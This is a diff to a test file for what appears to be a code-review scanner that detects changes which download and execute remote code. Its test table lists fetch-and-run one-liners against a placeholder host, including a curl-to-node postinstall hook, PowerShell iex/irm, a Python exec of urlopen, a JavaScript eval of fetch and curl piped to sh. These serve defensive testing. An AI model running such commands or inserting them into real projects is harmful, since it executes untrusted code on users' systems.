@@ -36,7 +36,7 @@ describe('a change that runs what it downloads', () => {
     '"postinstall": "curl https://x.example/i | node"',
     'iex ((New-Object System.Net.WebClient).DownloadString("https://x.example/i.ps1"))',
     'irm https://x.example/i.ps1 | iex',
-    "python -c \"import urllib.request as u; exec(u.urlopen('https://x.example/i').read())\"",
+    'python -c "import urllib.request as u; exec(u.urlopen(\'https://x.example/i\').read())"',
     "eval(await (await fetch('https://x.example/i.js')).text())",
     'curl https://x.example/i || curl https://y.example/i | sh',
   ])('%s', (line) => {
@@ -95,7 +95,9 @@ test('a file is reported a few times at most', () => {
 test('everything but text for people, media and lock files is read', () => {
   const files = ['README.md', 'docs/a.rst', 'logo.png', 'package-lock.json', 'yarn.lock', 'page.html'];
   const read = ['Makefile', 'Dockerfile', 'gradlew', 'package.json', 'src/a.ts', '.github/workflows/a.yml'];
-  const all = [...files, ...read].map((path) => ({ path, status: 'added', additions: 1, deletions: 0 }) as const);
+  const all = [...files, ...read].map(
+    (path) => ({ path, status: 'added', additions: 1, deletions: 0 }) as const,
+  );
   const gone = { path: 'old.sh', status: 'deleted', additions: 0, deletions: 1 } as const;
   expect(codeFiles({ files: [...all, gone], summary: '' })).toEqual(read);
 });
